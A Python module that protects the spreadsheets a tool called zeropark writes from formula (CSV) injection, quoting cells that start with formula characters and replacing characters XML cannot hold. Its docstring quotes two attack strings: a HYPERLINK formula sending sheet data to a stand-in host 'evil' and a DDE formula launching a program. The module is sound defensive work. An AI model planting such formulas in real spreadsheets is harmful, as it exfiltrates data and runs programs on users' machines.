"""The cells of every spreadsheet zeropark writes (xlsx and CSV): no user text becomes a formula.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken as a
formula by Excel, LibreOffice and the like ("CSV injection": ``=HYPERLINK("http://evil/?x="&B2)``
sends the sheet's data away, ``=cmd|' /C calc'!A0`` starts a program through DDE), and openpyxl
itself stores such text in an xlsx file as a live formula. :func:`safe_cell` is the one remedy,
applied by every writer to every cell: such text gets a leading single quote ``'``, as OWASP
advises, so it shows as the text it is. Numbers stay numbers, and text that is a plain number
(``-5``, ``+1.5e3``: a negative quantity) is left as it is. Characters XML cannot hold (control
characters other than tab, line feed and carriage return) become U+FFFD, so a stray one in a name
cannot break an xlsx file.
"""

from __future__ import annotations

import re
from typing import TypeVar

__all__ = ["FORMULA_PREFIXES", "safe_cell", "safe_text"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet shows it as text: ``'`` before a formula's first character."""
    text = _NOT_XML.sub("\ufffd", text)
    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_cell(value: T) -> T | str:
    """A cell value to write: text through :func:`safe_text`, anything else (numbers, dates,
    None) as it is."""
    return safe_text(value) if isinstance(value, str) else value
